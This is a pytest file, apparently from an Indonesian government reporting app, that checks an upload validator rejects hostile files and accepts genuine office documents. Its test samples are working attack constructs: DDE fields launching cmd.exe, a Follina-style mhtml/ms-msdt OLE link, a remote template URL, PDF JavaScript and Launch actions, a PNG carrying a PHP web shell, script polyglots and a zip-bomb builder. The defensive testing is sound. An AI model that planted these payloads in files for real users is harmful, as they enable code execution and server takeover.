"""Hostile files of an accepted kind are refused with a reason naming what was found, on both
upload paths (evidence and step attachments), and genuine office files keep working."""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from reports.models import Evidence
from reports.performance.services import evidence_add
from workflow.models import Attachment, RunStep
from workflow.runs.services import run_step_submit

from . import genuine_files as files
from .conftest import stored_files, user

DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def docx(extra: dict[str, str | bytes], document_body: str = "<w:p/>") -> bytes:
    return files.zip_bytes(
        {
            "[Content_Types].xml": files.content_types("word/document.xml", DOCX_MAIN),
            "_rels/.rels": files.RELS.format(target="word/document.xml"),
            "word/document.xml": f"<w:document {W}><w:body>{document_body}</w:body></w:document>",
        }
        | extra
    )


def rels(*relationships: tuple[str, str, str]) -> str:
    body = "".join(
        f'<Relationship Id="rId{n}" Type="{RELATIONSHIPS}/{kind}" Target="{target}"{mode}/>'
        for n, (kind, target, mode) in enumerate(relationships, start=10)
    )
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{body}</Relationships>'


def xlsx(sheet_cells: str, extra: dict[str, str] | None = None) -> bytes:
    return files.zip_bytes(
        {
            "[Content_Types].xml": files.content_types("xl/workbook.xml", XLSX_MAIN),
            "_rels/.rels": files.RELS.format(target="xl/workbook.xml"),
            "xl/workbook.xml": (
                '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                '<sheets><sheet name="Data" sheetId="1"/></sheets></workbook>'
            ),
            "xl/worksheets/sheet1.xml": (
                '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                f'<sheetData><row r="1">{sheet_cells}</row></sheetData></worksheet>'
            ),
        }
        | (extra or {})
    )


def pdf_with(catalog_entries: dict) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    for key, value in catalog_entries.items():
        writer.root_object[NameObject(key)] = value
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def javascript_action() -> DictionaryObject:
    return DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
    )


def launch_action() -> DictionaryObject:
    return DictionaryObject({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")})


def odt_with_basic_macro() -> bytes:
    content = (
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
        'xmlns:xlink="http://www.w3.org/1999/xlink"><office:scripts><office:event-listeners>'
        '<script:event-listener script:language="ooo:script" script:event-name="dom:load" '
        'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
        "</office:event-listeners></office:scripts></office:document-content>"
    )
    return files.zip_bytes(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": content,
            "Basic/Standard/Module1.xml": "<script:module/>",
        }
    )


def bomb_docx() -> bytes:
    """A .docx whose one extra part unpacks to 1 GiB of zeros (about 1 MB packed)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", files.content_types("word/document.xml", DOCX_MAIN))
        archive.writestr("_rels/.rels", files.RELS.format(target="word/document.xml"))
        archive.writestr("word/document.xml", f"<w:document {W}><w:body/></w:document>")
        with archive.open("word/media/image1.png", "w", force_zip64=True) as member:
            chunk = b"\x00" * (1024 * 1024)
            for _ in range(1024):
                member.write(chunk)
    return out.getvalue()


HOSTILE = [
    pytest.param(
        "surat.doc",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + files.EXE + "WordDocument".encode("utf-16-le"),
        "Berkas Word ini membawa program atau paket tersemat",
        id="an ole2 header with an exe and the word WordDocument",
    ),
    pytest.param(
        "surat.doc",
        files.ole2_bytes("WordDocument", "1Table", contents={"Macros/VBA/ThisDocument": b"Attribute VB_Name"}),
        "Berkas Word ini berisi makro",
        id="a doc with macro storages",
    ),
    pytest.param(
        "tabel.xls",
        files.ole2_bytes("Workbook", contents={"_VBA_PROJECT_CUR/VBA/dir": b"\x01"}),
        "Berkas Excel ini berisi makro",
        id="an xls with a vba project",
    ),
    pytest.param(
        "tabel.xls",
        files.ole2_bytes("Workbook", contents={"MBD0001/\x01Ole10Native": files.EXE}),
        "Berkas Excel ini membawa program atau paket tersemat",
        id="an xls with an embedded package",
    ),
    pytest.param("notulen.odt", odt_with_basic_macro(), "Berkas OpenDocument ini berisi makro", id="an odt macro"),
    pytest.param(
        "notulen.docx",
        docx(
            {
                "word/_rels/settings.xml.rels": rels(
                    ("attachedTemplate", "http://203.0.113.9/t.dotm", ' TargetMode="External"')
                )
            }
        ),
        "Berkas Word ini merujuk templat atau objek di tempat lain (http://203.0.113.9/t.dotm)",
        id="a docx with a remote template",
    ),
    pytest.param(
        "notulen.docx",
        docx(
            {
                "word/_rels/document.xml.rels": rels(
                    ("oleObject", "mhtml:http://203.0.113.9/x.html!x-usc:http://x", ' TargetMode="External"')
                )
            }
        ),
        "Berkas Word ini merujuk templat atau objek di tempat lain (mhtml:",
        id="a docx with a follina ole link",
    ),
    pytest.param(
        "notulen.docx",
        docx({"word/_rels/document.xml.rels": rels(("oleObject", "ms-msdt:/id PCWDiagnostic", ""))}),
        "Berkas Word ini merujuk templat atau objek di tempat lain (ms-msdt:",
        id="a docx with an ms-msdt target",
    ),
    pytest.param(
        "notulen.docx",
        docx({"word/embeddings/oleObject1.bin": files.ole2_bytes(contents={"\x01Ole10Native": files.EXE})}),
        "Berkas Word ini membawa program atau paket tersemat (word/embeddings/oleObject1.bin)",
        id="a docx with an embedded exe",
    ),
    pytest.param(
        "notulen.docx",
        docx({}, '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/c calc&quot; "/></w:p>'),
        "Berkas Word ini berisi tautan DDE",
        id="a docx with a ddeauto field",
    ),
    pytest.param(
        "tabel.xlsx",
        xlsx("<c r=\"A1\"><f>cmd|' /C calc'!A0</f></c>"),
        "Berkas Excel ini berisi tautan DDE",
        id="an xlsx with a dde formula",
    ),
    pytest.param(
        "tabel.xlsx",
        xlsx("", {"xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'}),
        "Berkas Excel ini berisi tautan DDE",
        id="an xlsx with a dde link part",
    ),
    pytest.param(
        "laporan.pdf",
        pdf_with({"/OpenAction": javascript_action()}),
        "Berkas PDF ini berisi konten aktif (/JS, /JavaScript)",
        id="a pdf with an openaction javascript",
    ),
    pytest.param(
        "laporan.pdf",
        pdf_with({"/OpenAction": launch_action()}),
        "Berkas PDF ini berisi konten aktif (/Launch)",
        id="a pdf with a launch action",
    ),
    pytest.param(
        "laporan.pdf",
        files.pdf_bytes().replace(b"/Type /Catalog", b"/Type /Catalog /AA << /O << /S /J#61vaScript >> >>"),
        "Berkas PDF ini berisi konten aktif (/JavaScript)",
        id="a pdf with a hex escaped javascript name",
    ),
    pytest.param(
        "laporan.pdf",
        files.pdf_bytes().replace(b"%\xe2\xe3\xcf\xd3\n", b"%\xe2\xe3\xcf\xd3\n<html><script>alert(1)</script>\n"),
        "Berkas PDF ini juga membawa kode halaman web atau skrip (<html)",
        id="a pdf html polyglot",
    ),
    pytest.param(
        "foto.jpg",
        files.image_bytes("JPEG") + b"<html><body><script>alert(document.domain)</script></body></html>",
        "Berkas JPEG ini juga membawa kode halaman web atau skrip",
        id="a jpeg html polyglot",
    ),
    pytest.param(
        "foto.png",
        files.image_bytes("PNG") + b"<?php system($_GET['c']); ?>",
        "Berkas PNG ini juga membawa kode halaman web atau skrip (<?php)",
        id="a png php polyglot",
    ),
    pytest.param(
        "foto.png",
        files.image_bytes("PNG") + bytes(range(256)) * 4,
        "Gambar PNG ini membawa data tambahan setelah akhir gambarnya",
        id="a png with a payload after iend",
    ),
]


@pytest.mark.parametrize(("name", "content", "reason"), HOSTILE)
def test_a_hostile_file_is_refused_as_evidence_with_its_reason_and_nothing_is_stored(
    realisation, settings, name, content, reason
):
    with pytest.raises(ValidationError) as refusal:
        evidence_add(realisation=realisation, file=files.upload(name, content), user=user("balangan.kasi-layanan"))
    assert any(f"“{name}” ditolak." in text and reason in text for text in refusal.value.messages), (
        refusal.value.messages
    )
    assert not Evidence.objects.filter(realisation=realisation).exists()
    assert stored_files(settings) == []


@pytest.mark.parametrize(("name", "content", "reason"), HOSTILE)
def test_a_hostile_file_is_refused_as_a_step_attachment_and_the_step_stays_open(run, settings, name, content, reason):
    first = run.steps.get(step__number=1)
    with pytest.raises(ValidationError) as refusal:
        run_step_submit(
            run_step_id=first.pk,
            user=user("balangan.sekretaris"),
            output_note="Disposisi",
            files=[files.upload("sah.pdf", files.pdf_bytes()), files.upload(name, content)],
        )
    assert any(reason in text for text in refusal.value.messages), refusal.value.messages
    first.refresh_from_db()
    assert first.state == RunStep.State.ACTIVE and not Attachment.objects.filter(run_step=first).exists()
    assert stored_files(settings) == []


def test_a_docx_that_unpacks_to_a_gibibyte_is_refused_from_its_directory_without_unpacking_a_byte(
    realisation, settings, monkeypatch
):
    bomb = bomb_docx()
    unpacked = []
    real_read = zipfile.ZipExtFile.read

    def counting_read(self, n=-1):
        data = real_read(self, n)
        unpacked.append(len(data))
        return data

    monkeypatch.setattr(zipfile.ZipExtFile, "read", counting_read)
    with pytest.raises(ValidationError) as refusal:
        evidence_add(realisation=realisation, file=files.upload("bom.docx", bomb), user=user("balangan.kasi-layanan"))
    assert any("tampaknya bom dekompresi" in text and "1024 MB" in text for text in refusal.value.messages)
    assert sum(unpacked) == 0
    assert stored_files(settings) == []


def genuine_docx_with_a_link_and_a_picture() -> bytes:
    body = (
        '<w:p><w:hyperlink w:anchor="bab2"><w:r><w:t>Bab 2</w:t></w:r></w:hyperlink></w:p>'
        '<w:p><w:hyperlink r:id="rId10" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        "<w:r><w:t>Situs</w:t></w:r></w:hyperlink></w:p>"
        '<w:p><w:fldSimple w:instr=" PAGE "/></w:p>'
    )
    return docx(
        {
            "word/_rels/document.xml.rels": rels(
                ("hyperlink", "https://balangankab.go.id/", ' TargetMode="External"'),
                ("image", "media/image1.png", ""),
            ),
            "word/media/image1.png": files.image_bytes("PNG"),
        },
        body,
    )


def genuine_pdf_with_an_outline_and_a_link() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_blank_page(200, 200)
    writer.add_outline_item(title="Bab 2", page_number=1)
    writer.add_uri(0, "https://balangankab.go.id/", [10, 10, 100, 30])
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


GENUINE = [
    pytest.param("laporan.pdf", files.pdf_bytes(), id="a plain pdf"),
    pytest.param("laporan.pdf", genuine_pdf_with_an_outline_and_a_link(), id="a pdf with an outline and a web link"),
    pytest.param("foto.jpg", files.image_bytes("JPEG"), id="a jpeg"),
    pytest.param("foto.png", files.image_bytes("PNG"), id="a png"),
    pytest.param("notulen.docx", genuine_docx_with_a_link_and_a_picture(), id="a docx with links and a picture"),
    pytest.param(
        "tabel.xlsx",
        xlsx('<c r="A1"><v>1</v></c><c r="A2"><f>SUM(A1:A1)&amp;"|"</f></c><c r="A3"><f>\'Data|2\'!A1</f></c>'),
        id="an xlsx with normal formulas",
    ),
    pytest.param("notulen.odt", files.odf_bytes("text"), id="an odt with a web link"),
    pytest.param("tabel.ods", files.odf_bytes("spreadsheet"), id="an ods"),
    pytest.param("surat.doc", files.ole2_bytes("WordDocument", "1Table"), id="a legacy doc"),
    pytest.param("tabel.xls", files.ole2_bytes("Workbook"), id="a legacy xls"),
]


@pytest.mark.parametrize(("name", "content"), GENUINE)
def test_a_genuine_office_file_is_still_accepted_as_evidence(realisation, name, content):
    evidence = evidence_add(
        realisation=realisation, file=files.upload(name, content), user=user("balangan.kasi-layanan")
    )
    assert evidence.original_name == name
